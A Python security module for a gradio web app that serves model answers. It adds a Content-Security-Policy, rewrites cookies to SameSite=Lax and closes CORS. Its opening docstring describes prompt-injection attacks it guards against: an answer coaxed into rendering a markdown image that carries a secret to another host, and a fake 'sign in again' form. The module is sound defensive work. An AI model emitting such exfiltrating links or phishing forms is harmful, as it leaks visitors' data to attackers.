"""What the served app adds to every answer so a browser keeps a visitor's data in the app.

- A Content-Security-Policy that lets the page load images and media only from the app (and
  `data:`/`blob:` URLs, which go nowhere): an answer talked into showing
  `![](https://elsewhere/?q=<secret>)` cannot make the visitor's browser send anything to
  another host; forms post only to the app (gradio's sanitizer keeps a `<form>` in an answer:
  a prompt injection's "sign in again" form must not send what a visitor types elsewhere).
  Scripts and styles are left to gradio, whose page relies on inline ones.
- Cookies `SameSite=Lax`: gradio sets its sign-in cookie `SameSite=None`, which a foreign
  site's requests would carry.
- CORS closed: gradio answers any `Origin` with credentials when the Host is not localhost,
  unless the parent app configures CORS itself; `close_cors` does, allowing no other origin.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; "
    "base-uri 'self'; form-action 'self'"
)


def close_cors(app: Any) -> None:
    """Allow no cross-origin reads of `app` (and of the gradio app mounted in it).

    Gradio's own CORS middleware stands aside when the parent app has Starlette's
    `CORSMiddleware` (`gr.mount_gradio_app`'s documented behaviour): with no allowed origin,
    preflights from other sites are refused and no answer names another origin.

    Args:
        app: The outer FastAPI app, before it serves.
    """
    from starlette.middleware.cors import CORSMiddleware

    app.add_middleware(CORSMiddleware, allow_origins=[], allow_credentials=False)


class SecurityHeaders:
    """ASGI middleware: the Content-Security-Policy on every answer, cookies `SameSite=Lax`.

    Args:
        app: The ASGI app it wraps.
        policy: The Content-Security-Policy value.
    """

    def __init__(self, app: Any, policy: str = CONTENT_SECURITY_POLICY):
        self.app, self.policy = app, policy.encode()

    async def __call__(self, scope: dict, receive: Callable, send: Callable) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def hardened_send(message: dict) -> None:
            if message["type"] == "http.response.start":
                message = {**message, "headers": self._headers(message.get("headers", []))}
            await send(message)

        await self.app(scope, receive, hardened_send)

    def _headers(self, headers: list) -> list:
        names = {bytes(name).lower() for name, _ in headers}
        out = [
            (name, lax_cookie(value) if bytes(name).lower() == b"set-cookie" else value)
            for name, value in headers
        ]
        if b"content-security-policy" not in names:
            out.append((b"content-security-policy", self.policy))
        return out


def lax_cookie(value: bytes) -> bytes:
    """A `Set-Cookie` value with its SameSite attribute replaced by `SameSite=Lax`.

    Args:
        value: The header value, e.g. `b"token=abc; HttpOnly; SameSite=none; Secure"`.
    """
    parts = [part.strip() for part in bytes(value).split(b";")]
    kept = [part for part in parts if part and not part.lower().startswith(b"samesite")]
    return b"; ".join([*kept, b"SameSite=Lax"])
